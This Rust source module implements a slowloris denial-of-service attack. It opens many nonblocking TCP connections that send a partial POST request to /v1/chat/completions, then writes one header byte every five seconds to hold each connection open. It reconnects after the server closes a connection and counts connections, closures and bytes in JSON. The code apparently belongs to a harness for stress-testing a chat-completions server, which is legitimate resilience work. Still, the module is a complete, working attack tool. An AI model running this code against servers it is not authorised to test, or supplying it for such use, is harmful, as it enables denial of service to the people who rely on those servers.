//! Connections that never finish their request. One thread has many of them; `readers.rs` has those that read slowly.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::thread::sleep;
use std::time::{Duration, Instant};

use serde_json::{Value as Json, json};

use super::target::Target;

/// What the attackers of one kind did.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub(super) struct Tally {
    pub(super) connections: usize,
    /// Ended by the server, before the end of an answer.
    pub(super) closed: usize,
    /// Answers that came to their end.
    pub(super) whole: usize,
    /// Read by the readers, written by the others.
    pub(super) bytes: usize,
}

impl Tally {
    pub(super) fn to_json(self) -> Json {
        json!({
            "connections": self.connections, "closed_by_server": self.closed, "whole": self.whole, "bytes": self.bytes
        })
    }
}

/// Whoever was closed comes back after this time.
pub(super) const BACK: Duration = Duration::from_secs(1);

/// Connections that send a byte of a header every 5 seconds, until `is_over`.
pub(super) fn slowloris(target: &Target, n: usize, is_over: &AtomicBool) -> Tally {
    const TICK: Duration = Duration::from_millis(250);
    const N_TICKS: usize = 20;
    let mut tally = Tally::default();
    let mut slots: Vec<Slot> = (0..n).map(|_| Slot::default()).collect();
    for tick_idx in 0.. {
        let tick = Instant::now();
        for (i, slot) in slots.iter_mut().enumerate() {
            slot.open(&mut tally, || {
                connect(target, b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nx-slow: ")
            });
            slot.read(&mut [0; 512], &mut tally.closed);
            if i % N_TICKS == tick_idx % N_TICKS {
                tally.bytes += slot.write(b"a", &mut tally.closed);
            }
        }
        if is_over.load(Relaxed) {
            break;
        }
        sleep(TICK.saturating_sub(tick.elapsed()));
    }
    tally
}

/// A connection, or the time since when there is none.
#[derive(Default)]
struct Slot {
    stream: Option<TcpStream>,
    closed: Option<Instant>,
}

impl Slot {
    fn open(&mut self, tally: &mut Tally, connect: impl FnOnce() -> std::io::Result<TcpStream>) {
        let may_come_back = self.closed.is_none_or(|closed| closed.elapsed() > BACK);
        if self.stream.is_none() && may_come_back {
            self.stream = connect().ok();
            tally.connections += usize::from(self.stream.is_some());
            self.closed = Some(Instant::now());
        }
    }

    fn read(&mut self, into: &mut [u8], n_closed: &mut usize) -> usize {
        let outcome = self.stream.as_mut().map(|stream| stream.read(into));
        self.settle(outcome, n_closed)
    }

    fn write(&mut self, bytes: &[u8], n_closed: &mut usize) -> usize {
        let outcome = self.stream.as_mut().map(|stream| stream.write(bytes));
        self.settle(outcome, n_closed)
    }

    /// Bytes that were moved; a stream that has ended is given up.
    fn settle(&mut self, outcome: Option<std::io::Result<usize>>, n_closed: &mut usize) -> usize {
        match outcome {
            None => 0,
            Some(Ok(n)) if n > 0 => n,
            Some(Err(e)) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted) => 0,
            Some(_) => {
                *n_closed += 1;
                *self = Slot { stream: None, closed: Some(Instant::now()) };
                0
            }
        }
    }
}

fn connect(target: &Target, first: &[u8]) -> std::io::Result<TcpStream> {
    begin(TcpStream::connect_timeout(&target.address, BACK)?, first)
}

/// Sends the first bytes; from then on nothing blocks.
pub(super) fn begin(mut stream: TcpStream, first: &[u8]) -> std::io::Result<TcpStream> {
    stream.set_write_timeout(Some(BACK))?;
    stream.write_all(first)?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}
